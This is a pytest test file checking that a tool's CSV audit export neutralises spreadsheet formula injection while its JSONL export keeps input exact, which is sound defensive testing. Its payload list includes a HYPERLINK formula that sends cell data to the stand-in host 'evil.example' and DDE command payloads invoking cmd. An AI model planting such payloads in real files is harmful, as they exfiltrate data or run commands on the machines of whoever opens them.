"""``countersign audit export --format csv`` is safe to open in a spreadsheet: a cell that
would run as a formula (OWASP's CSV injection) gets a ``'`` in front and every cell is
quoted; the JSONL export keeps what was written exactly.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from storage import DecisionKind, NewDecision, NewReview, ReviewKind, RunStatus, Store
from tests.support.cli import Cli
from tests.support.runs import LEASE

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["plain feedback", "  =not at the start", "'quoted already"]


@pytest.fixture
def cli(db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Cli:
    config = tmp_path / "countersign.toml"
    config.write_text('[crews.blog]\nfactory = "tests.support.crews:writer"\n')
    return Cli(db_url, config, capsys)


def rejected(store: Store, feedback: str, by: str) -> None:
    run = store.create_run("blog", {"topic": "otters"})
    claimed = store.claim_run("w1", LEASE)
    assert claimed is not None and claimed.lease_token
    ask = NewReview(kind=ReviewKind.TASK_REVIEW, stream="task0:Writer", seq=0, prompt="A draft")
    [review] = store.suspend_run(run.id, claimed.lease_token, [ask])
    store.decide(review.id, NewDecision(DecisionKind.REJECT, by, text=feedback))
    again = store.claim_run("w1", LEASE)
    assert again is not None and again.id == run.id and again.lease_token
    store.finish_run(run.id, again.lease_token, RunStatus.REJECTED)


def test_cells_a_spreadsheet_would_run_are_neutralised_and_jsonl_stays_exact(
    cli: Cli, db_url: str
) -> None:
    store = Store.open(db_url)
    try:
        for text in FORMULAS + SAFE:
            rejected(store, text, by="=cmd|' /C calc'!A0" if text == FORMULAS[0] else "U0ANA")
    finally:
        store.close()
    since = ("--since", "2000-01-01", "--until", "2100-01-01")

    table = cli.ok("audit", "export", *since, "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    assert [r["feedback"] for r in rows] == ["'" + f for f in FORMULAS] + SAFE
    assert rows[0]["decided_by"] == "'=cmd|' /C calc'!A0"
    lines = [line for line in table.split("\r\n") if line]
    assert all(line.startswith('"') for line in lines), "every cell quoted"

    exact = [json.loads(line) for line in cli.ok("audit", "export", *since).out.splitlines()]
    assert [r["feedback"] for r in exact] == FORMULAS + SAFE
    assert exact[0]["decided_by"] == "=cmd|' /C calc'!A0"
